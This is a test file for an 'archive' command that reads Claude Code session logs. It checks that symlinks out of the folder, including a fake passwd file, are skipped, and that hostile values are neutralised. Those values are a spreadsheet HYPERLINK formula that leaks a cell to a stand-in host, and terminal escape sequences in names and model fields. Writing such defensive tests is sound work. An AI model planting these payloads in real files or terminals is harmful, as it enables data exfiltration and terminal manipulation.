/**
 * What `archive` reads and writes, and nothing else: links out of DIR, the
 * `--out` target, the CSV a spreadsheet opens, the table a terminal prints,
 * and the size of a file too large to import.
 */
import { closeSync, mkdirSync, openSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { emptyTotals } from '../archive/totals';
import type { ArchiveDocument } from './archive';
import { renderArchive } from './archive';
import { run, scratch } from './testSupport.node';

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function folder(files: Record<string, string>): string {
  const { dir } = scratch('archive-safety-');
  dirs.push(dir);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

/** A Claude Code session of one call, in the folder `cwd` and answered by `model`. */
function session(cwd: string, model = 'claude-sonnet-4-5-20250929'): string {
  const base = { sessionId: 's1', cwd, isSidechain: false, userType: 'external', version: '2.0.55' };
  return `${[
    {
      ...base,
      type: 'user',
      uuid: 'u1',
      parentUuid: null,
      timestamp: '2026-01-02T10:00:00.000Z',
      message: { role: 'user', content: 'List the files.' },
    },
    {
      ...base,
      type: 'assistant',
      uuid: 'a1',
      parentUuid: 'u1',
      timestamp: '2026-01-02T10:00:05.000Z',
      message: {
        model,
        id: 'msg_1',
        type: 'message',
        role: 'assistant',
        content: [{ type: 'text', text: 'Two files.' }],
        usage: { input_tokens: 1200, output_tokens: 40 },
      },
    },
  ]
    .map((line) => JSON.stringify(line))
    .join('\n')}\n`;
}

const archive = async (...args: string[]) => {
  const r = await run(['archive', ...args, '--jobs', '1']);
  return {
    ...r,
    doc: r.code === 0 && args.includes('--json') ? (JSON.parse(r.out) as ArchiveDocument) : null,
  };
};

describe('archive and links', () => {
  it('does not read a link out of DIR, counts it, and reads it with --follow-links', async () => {
    const elsewhere = folder({
      'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
      'proj/s.jsonl': session('/x'),
    });
    const dir = folder({ '.claude/projects/-a/s.jsonl': session('/home/a') });
    symlinkSync(join(elsewhere, 'etc/passwd'), join(dir, 'passwd.jsonl'));
    symlinkSync(join(elsewhere, 'proj'), join(dir, '.claude/projects/-b'));

    const json = await archive(dir, '--json');
    expect(json.doc!.sessions.map((s) => s.file)).toEqual(['.claude/projects/-a/s.jsonl']);
    expect([json.doc!.totals.skippedFiles, json.doc!.totals.skippedLinks]).toEqual([0, 2]);
    expect(json.err).toMatch(/; 2 links out of the folder not followed\n$/);

    const text = await archive(dir);
    expect(text.out).toContain(
      '\nlinks       2 out of the folder not followed (--follow-links reads them)\n',
    );

    const followed = await archive(dir, '--json', '--follow-links');
    // Followed, the link is read as any file: a .jsonl in no agent's layout that imports as text.
    expect(followed.doc!.sessions.map((s) => [s.file, s.format])).toEqual([
      ['.claude/projects/-a/s.jsonl', 'claude-code'],
      ['.claude/projects/-b/s.jsonl', 'claude-code'],
      ['passwd.jsonl', 'text'],
    ]);
    expect(followed.doc!.totals.skippedLinks).toBe(0);
  }, 60_000);

  it('reads a session reached through a link inside DIR once', async () => {
    const dir = folder({ '.claude/projects/-a/s.jsonl': session('/home/a') });
    symlinkSync(join(dir, '.claude/projects/-a/s.jsonl'), join(dir, '.claude/projects/-a/again.jsonl'));
    symlinkSync(join(dir, '.claude/projects/-a'), join(dir, '.claude/projects/-b'));
    const { doc } = await archive(dir, '--json');
    expect(doc!.sessions.map((s) => s.file)).toEqual(['.claude/projects/-a/s.jsonl']);
    expect(doc!.totals.skippedLinks).toBe(0);
  }, 60_000);
});

describe('archive --out', () => {
  it('refuses a folder that does not exist before reading DIR, in one line', async () => {
    const dir = folder({ '.claude/projects/-a/s.jsonl': session('/home/a') });
    const target = join(dir, 'missing', 'archive.csv');
    const r = await archive(dir, '--out', target);
    expect([r.code, r.out, r.err]).toEqual([
      2,
      '',
      `compaction-playground: --out ${target}: the folder ${join(dir, 'missing')} does not exist (make it first)\n`,
    ]);
  });

  it('refuses a folder that is a file, and a table name that is a folder', async () => {
    const dir = folder({ 'notes.txt': 'x', 'out/a.sessions.csv/keep': '' });
    const underFile = join(dir, 'notes.txt', 'a.csv');
    expect((await archive(dir, '--out', underFile)).err).toBe(
      `compaction-playground: --out ${underFile}: ${join(dir, 'notes.txt')} is not a folder\n`,
    );
    const r = await archive(dir, '--out', join(dir, 'out/a.csv'));
    expect([r.code, r.err]).toEqual([
      2,
      `compaction-playground: --out ${join(dir, 'out/a.csv')}: ${join(dir, 'out/a.sessions.csv')} is a folder\n`,
    ]);
  });

  it('does not read its own tables when they are written inside DIR', async () => {
    const dir = folder({ '.claude/projects/-a/s.jsonl': session('/home/a'), 'out/.keep': '' });
    const first = await archive(dir, '--json', '--out', join(dir, 'out/archive.jsonl'));
    const second = await archive(dir, '--json', '--out', join(dir, 'out/archive.jsonl'));
    expect(first.doc!.sessions.map((s) => s.file)).toEqual(['.claude/projects/-a/s.jsonl']);
    expect(second.doc!.sessions.map((s) => s.file)).toEqual(['.claude/projects/-a/s.jsonl']);
    expect(second.doc!.totals).toEqual(first.doc!.totals);
    expect(first.doc!.totals.skippedFiles).toBe(1);
  }, 60_000);

  it('writes a hostile working folder and model as inert text in the CSV', async () => {
    const cwd = '=HYPERLINK("http://x.test/?"&A1,"open")';
    const dir = folder({ '.claude/projects/-a/s.jsonl': session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model') });
    const name = join(dir, '..', `${dir.split('/').pop()}-t.csv`);
    dirs.push(name.replace(/\.csv$/, '.sessions.csv'), name.replace(/\.csv$/, '.compactions.csv'));
    expect((await archive(dir, '--out', name)).code).toBe(0);
    const lines = readFileSync(name.replace(/\.csv$/, '.sessions.csv'), 'utf8').split('\n');
    expect(lines[1]).toBe(
      `.claude/projects/-a/s.jsonl,claude-code,claude-code,"'=HYPERLINK(""http://x.test/?""&A1,""open"")","'=HYPERLINK(""http://x.test/?""&A1,""open"")",false,2026-01-02T10:00:00.000Z,2026-01-02T10:00:05.000Z,${Buffer.byteLength(session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model'))},2,2,1,0,1200,1200,,,40,\\u001b]52;c;ZXZpbA==\\u0007-model,,\\u001b]52;c;ZXZpbA==\\u0007-model ×1,0,false,,0,0,0,,,,,,0,0,0,0,0,`,
    );
  }, 60_000);
});

describe('archive on a terminal', () => {
  it('shows a line break, a tab and an escape in a file name as escapes, on the file’s own line', () => {
    const doc: ArchiveDocument = {
      sessions: [],
      totals: emptyTotals(),
      problems: [],
    };
    doc.sessions.push({
      file: 'a\nb\t\u001b[2J.jsonl',
      error: 'a\nb\t\u001b[2J.jsonl: The file is not valid UTF-8 text',
    } as ArchiveDocument['sessions'][number]);
    const lines = renderArchive(doc).split('\n');
    expect(lines[1]).toBe(
      `${'error'.padStart(11)}${' '.repeat(43)}a\\u000ab\\u0009\\u001b[2J.jsonl: a\\u000ab\\u0009\\u001b[2J.jsonl: The file is not valid UTF-8 text`,
    );
  });
});

describe('archive and a file too large to import', () => {
  it('names its real size and reads none of it', async () => {
    const dir = folder({});
    const path = join(dir, '.claude/projects/-a/huge.jsonl');
    mkdirSync(dirname(path), { recursive: true });
    // A sparse gigabyte: its size on disk is nothing.
    const fd = openSync(path, 'w');
    closeSync(fd);
    const { truncateSync } = await import('node:fs');
    truncateSync(path, 1024 * 1024 * 1024);
    const { doc, err } = await archive(dir, '--json');
    expect(doc!.sessions.map((s) => [s.bytes, s.error])).toEqual([
      [
        1024 * 1024 * 1024,
        '.claude/projects/-a/huge.jsonl: The file is too large to import (1.0 GB; the limit is 200.0 MB)',
      ],
    ]);
    expect(err).toMatch(/^archive: read 1 session \(1\.0 GB\) in /m);
  }, 60_000);
});
